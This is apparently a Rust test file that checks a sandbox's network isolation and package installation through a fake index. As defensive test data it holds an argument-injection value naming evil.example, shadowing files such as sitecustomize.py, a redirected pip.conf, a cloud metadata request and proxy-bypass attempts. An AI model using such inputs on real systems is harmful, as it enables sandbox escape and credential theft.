//! What code in the sandbox reaches: nothing, or what it was granted, through a proxy.

use std::path::Path;

use testkit::index::FakeIndex;
use testkit::model::FakeModel;
use testkit::sandbox::{Plan, Sandbox};

use crate::sandbox::{asks, obedient, plan, shell};

fn near(model: &FakeModel, folder: &Path, index: &FakeIndex) -> Plan {
    // It is near in tests alone.
    let plan = plan(model, folder).set("CLARA_WEB_PRIVATE_HOSTS", index.address);
    let plan = plan.set("CLARA_SANDBOX_INDEX_URL", format!("http://{}/simple", index.address));
    plan.set("CLARA_SANDBOX_SECONDS", 60).set("CLARA_SANDBOX_MEMORY_MB", 256)
}

#[tokio::test(flavor = "multi_thread")]
async fn packages_are_installed_and_nothing_else_is_reached() {
    let (model, folder, index) = (obedient().await, tempfile::tempdir().unwrap(), FakeIndex::start().await);
    let plan = near(&model, folder.path(), &index).set("CLARA_SANDBOX_PACKAGE_HOSTS", index.address);
    let sandbox = plan.start().await;
    let mut terminal = sandbox.terminal("main").await;
    let installed = terminal.asks(r#"call install_package {"package": "greeting==1.0"}"#).await;
    assert!(installed.text.contains("\nInstalled greeting==1.0.\n"), "{}", installed.text);
    assert_eq!(index.asked(), ["/simple/greeting/", "/files/greeting-1.0-py3-none-any.whl"]);
    let used = terminal.asks("python import greeting; print(greeting.greet())").await;
    assert!(used.text.contains("hello from a package"), "{}", used.text);
    let missing = terminal.asks(r#"call install_package {"package": "no-such-package"}"#).await;
    assert!(missing.text.contains("No matching distribution"), "{}", missing.text);
    let strange =
        terminal.asks(r#"call install_package {"package": "--index-url=http://evil.example/simple x"}"#).await;
    assert!(strange.text.contains("is no package"), "{}", strange.text);
    // Nothing that stands in the folder is run with what is reached to install, nor unasked.
    let evil = "open('/workspace/stolen', 'w').write('x')";
    for file in
        ["zipfile.py", "socket.py", "pip/__main__.py", ".python/sitecustomize.py", "greeting.tlz", "greeting==1.zip"]
    {
        let written = serde_json::json!({"path": file, "content": evil});
        assert!(terminal.asks(&format!("call write_file {written}")).await.text.contains("Wrote"), "{file}");
    }
    let conf = serde_json::json!({"path": ".config/pip/pip.conf", "content": "[global]\nindex-url = http://127.0.0.1:1/simple\n"});
    assert!(terminal.asks(&format!("call write_file {conf}")).await.text.contains("Wrote"));
    let again = terminal.asks(r#"call install_package {"package": "greeting"}"#).await;
    assert!(again.text.contains("\nInstalled greeting.\n"), "{}", again.text);
    for file in ["greeting.tlz", "greeting==1.zip"] {
        let file = terminal.asks(&format!(r#"call install_package {{"package": "{file}"}}"#)).await;
        assert!(file.text.contains("the file does not exist"), "{}", file.text);
    }
    let unzipped = terminal.asks(r#"call unzip_file {"path": "zipfile.py"}"#).await;
    assert!(unzipped.text.contains("BadZipFile"), "{}", unzipped.text);
    let listed = terminal.asks("call list_files {}").await;
    assert!(listed.text.contains("zipfile.py") && !listed.text.contains("stolen"), "{}", listed.text);
    assert!(!listed.text.contains("greeting.py"), "packages are not the person's files: {}", listed.text);
    let hidden = terminal.asks(r#"call list_files {"path": ".python"}"#).await;
    assert!(hidden.text.contains("greeting.py"), "{}", hidden.text);
    for path in ["zipfile.py", "socket.py", "pip", ".python/sitecustomize.py"] {
        let deleted = terminal.asks(&format!(r#"call delete_file {{"path": "{path}"}}"#)).await;
        assert!(deleted.text.contains("Deleted"), "{}", deleted.text);
    }
    // What may be reached to install is not reached by code.
    let tried = shell(&mut terminal, &asks(&format!("http://{}/hello", index.address))).await;
    assert!(!tried.text.contains("hello from outside"), "{}", tried.text);
    assert!(!index.asked().contains(&"/hello".to_owned()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_way_out_leads_to_what_was_granted_alone() {
    let (model, folder, index) = (obedient().await, tempfile::tempdir().unwrap(), FakeIndex::start().await);
    let other = FakeIndex::start().await;
    // Granted by a name that leads to this machine, which nobody said may be near.
    let by_name = format!("localhost:{}", other.address.port());
    let plan = near(&model, folder.path(), &index)
        .set("CLARA_SANDBOX_PACKAGE_HOSTS", "off")
        .set("CLARA_SANDBOX_HOSTS", format!("{},{by_name}", index.address));
    let sandbox: Sandbox = plan.start().await;
    let mut terminal = sandbox.terminal("main").await;
    let reached = shell(&mut terminal, &asks(&format!("http://{}/hello", index.address))).await;
    assert!(reached.text.contains("hello from outside"), "{}", reached.text);
    for (attempt, why) in [
        (asks(&format!("http://{}/hello", other.address)), "HTTP Error 403"),
        (asks(&format!("http://{by_name}/hello")), "HTTP Error 502"),
        (asks(&format!("http://{}/to/{}/hello", index.address, other.address)), "HTTP Error 403"),
        (asks("http://169.254.169.254/latest/meta-data"), "HTTP Error 403"),
        (asks("https://example.org/"), "403"),
        // Past the proxy there is nothing.
        (
            format!(
                "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {}), 2)\"",
                index.address.port()
            ),
            "Connection refused",
        ),
    ] {
        let text = shell(&mut terminal, &attempt).await.text;
        assert!(text.contains(why) && !text.contains("hello from outside"), "{attempt}: {text}");
        let is_past = why == "Connection refused";
        assert!(text.contains("[no way to ") != is_past, "it is told why: {text}");
    }
    assert_eq!(other.asked(), [""; 0]);
    // A tunnel leads there too, and the proxy says what it is.
    let tunnel = format!(
        "python3 -c \"\nimport http.client as h\nc = h.HTTPConnection('127.0.0.1', 3128)\nc.set_tunnel('{}', {})\n\
         c.request('GET', '/hello')\nprint(c.getresponse().read().decode())\n\"",
        index.address.ip(),
        index.address.port()
    );
    let reached = shell(&mut terminal, &tunnel).await;
    assert!(reached.text.contains("hello from outside"), "{}", reached.text);
    let listed = terminal.asks(r#"call install_package {"package": "greeting"}"#).await;
    assert!(listed.text.contains("there is no tool"), "{}", listed.text);
}
